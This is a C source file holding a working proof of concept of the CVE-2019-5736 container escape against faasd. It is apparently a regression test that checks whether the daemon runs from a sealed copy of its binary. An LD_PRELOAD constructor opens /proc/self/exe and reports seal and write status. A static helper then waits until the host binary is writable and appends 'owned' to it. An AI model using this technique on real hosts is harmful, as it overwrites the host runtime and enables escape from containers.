/*
 * exe-attack: the CVE-2019-5736 attack on faasd's binary (issue 10 #13).
 *
 * The image's entrypoint is a script starting "#!/proc/self/exe": the container's first
 * process shares the daemon's memory until exec, so the kernel runs the daemon's own
 * binary as pid 1 of the container, with the image's dynamic loader and libraries and
 * LD_PRELOAD=/exe-attack.so from the image's Env. Built twice from this file:
 *
 *   exe-attack.so (gcc -shared -fPIC): a constructor that runs inside that process. It
 *     opens /proc/self/exe with O_PATH (inherited across exec), answers the request with
 *     what it holds ("exe dev=D ino=I sealed=0|1" and whether it could open it for
 *     writing), then executes /exe-hold FD.
 *   exe-hold (gcc -static -DHOLD): for up to 10 s, tries to reopen /proc/self/fd/FD for
 *     writing (ETXTBSY while the daemon runs it) and, once it can, appends "owned" to it:
 *     that is the host's faasd binary unless faasd runs from a sealed copy.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#ifdef HOLD
int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    for (int i = 0; i < 200; i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0)
            return write(fd, "owned", 5) == 5 ? 0 : 3;
        usleep(50 * 1000);
    }
    return 1;
}
#else
#include "receive-client.h"

__attribute__((constructor)) static void attack(void) {
    int exe = open("/proc/self/exe", O_PATH);
    struct stat st = {0};
    fstat(exe, &st);
    int ro = open("/proc/self/exe", O_RDONLY); /* F_GET_SEALS refuses O_PATH fds */
    int sealed = fcntl(ro, F_GET_SEALS) >= 0;
    int w = open("/proc/self/exe", O_WRONLY);
    int werr = errno;
    int conn = receive_client();
    if (conn < 0)
        _exit(1);
    char body[256];
    int n = snprintf(body, sizeof body,
                     "HTTP/1.0 200 OK\r\nConnection: close\r\n\r\n"
                     "exe dev=%lu ino=%lu sealed=%d open-for-write=%s\n",
                     (unsigned long)st.st_dev, (unsigned long)st.st_ino, sealed,
                     w >= 0 ? "ok" : strerror(werr));
    if (write(conn, body, (size_t)n) < 0)
        _exit(1);
    close(conn);
    char fd[16];
    snprintf(fd, sizeof fd, "%d", exe);
    char *argv[] = {"/exe-hold", fd, NULL};
    char *envp[] = {NULL};
    execve("/exe-hold", argv, envp);
    _exit(1);
}
#endif
